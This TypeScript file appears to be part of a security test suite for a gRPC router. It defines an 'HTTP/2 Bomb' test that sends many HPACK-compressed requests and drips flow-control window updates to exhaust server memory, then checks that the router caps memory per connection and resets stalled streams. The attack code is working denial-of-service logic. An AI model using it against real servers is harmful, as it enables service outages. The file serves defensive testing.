// SPDX-License-Identifier: Apache-2.0
import {
  joinBytes,
  RawSetting,
  rawData,
  rawHeaders,
  rawIndexed,
  rawLiterals,
  rawMessage,
  rawWindowUpdate,
} from "@grpc-router/testing/raw-http2";
import { defineAttack } from "../attack.ts";
import { Path, requestBlock, watchOrder } from "../raw/orders.ts";
import type { RawConnection } from "../raw/raw-connection.ts";
import { shortStall } from "../raw/short-times.ts";
import { streamSeries } from "../raw/stream-series.ts";

const streams = 100;
/** With the six of the request: 100 fields, as many as the router takes. */
const crumbs = 94;
/** Octets of each answer; it waits for a window that opens octet by octet. */
const answerOctets = 200;
const mib = 1024 * 1024;

/**
 * HTTP/2 Bomb: requests of as many fields as are allowed, each one octet on the wire, whose answers wait for a window that is
 * opened octet by octet, so that all that was made of the fields is held. What the router holds for a connection stays below
 * 1 MiB, and the stall timer ends the streams.
 */
export const attack = defineAttack<{ connections: number; stallMs: number }>({
  id: "A6",
  name: "HTTP/2 Bomb",
  cves: ["CVE-2026-49975", "CVE-2026-47774"],
  limits: ["stallMs"],
  sizes: { quick: { connections: 10, stallMs: 3_000 }, full: { connections: 50, stallMs: 30_000 } },
  settings: shortStall,
  repeats: false,
  async run(context, { connections, stallMs }) {
    const opened = await context.openMany(connections, { settings: [[RawSetting.initialWindowSize, 0]] });
    const startedMs = performance.now();
    for (const connection of opened) await connection.push(bomb());
    await context.until(async () => (await context.instance()).ended >= connections * streams, 5_000);
    const grownBytes = await context.grownBytes();
    const isOver = () => opened.every((connection) => connection.resets.size === streams || connection.over);
    while (!isOver() && performance.now() - startedMs < 2 * stallMs) {
      for (const connection of opened) drip(connection);
      await context.sleep(1_000);
    }
    const tookMs = performance.now() - startedMs;
    const perConnection = grownBytes / connections;
    context.check("a connection takes at most 1 MiB", perConnection <= mib, Math.round(perConnection));
    const resets = opened.reduce((sum, connection) => sum + connection.resets.size, 0);
    context.check("all streams are reset when they have stalled", isOver() && tookMs < stallMs + 5_000, resets);
    return `${(perConnection / 1024).toFixed(0)} KiB a connection; ${resets} streams reset after ${Math.round(tookMs / 1000)} s`;
  },
  async counter(context) {
    const connection = await context.open();
    connection.send(rawHeaders(1, block()), rawData(1, rawMessage([]), true));
    const served = await connection.until(() => connection.dataBytes > 0, 5_000);
    context.check("a request of 100 fields is served", served && !connection.over);
    return `a request of 100 fields is ${served ? "served" : "not served"}`;
  },
});

/** The first request makes the entry that all refer to. */
function bomb(): Uint8Array {
  const body = rawData(1, rawMessage(watchOrder(1, answerOctets)), true);
  const entry = rawLiterals([["cookie", "a"]], "withIndexing");
  const first = joinBytes(requestBlock(Path.watch), entry, references(crumbs - 1));
  const other = joinBytes(requestBlock(Path.watch), references(crumbs));
  return joinBytes(rawHeaders(1, first), body, streamSeries(joinBytes(rawHeaders(3, other), body), streams - 1, 3));
}

/** A request with as many crumbs in a connection of its own. */
function block(): Uint8Array {
  const entry = rawLiterals([["cookie", "a"]], "withIndexing");
  return joinBytes(requestBlock(Path.run), entry, references(crumbs - 1));
}

function references(count: number): Uint8Array {
  return new Uint8Array(count).fill(rawIndexed(62)[0] ?? 0);
}

function drip(connection: RawConnection): void {
  const ids = Array.from({ length: streams }, (_, index) => 2 * index + 1);
  connection.send(...ids.filter((id) => !connection.resets.has(id)).map((id) => rawWindowUpdate(id, 1)));
}
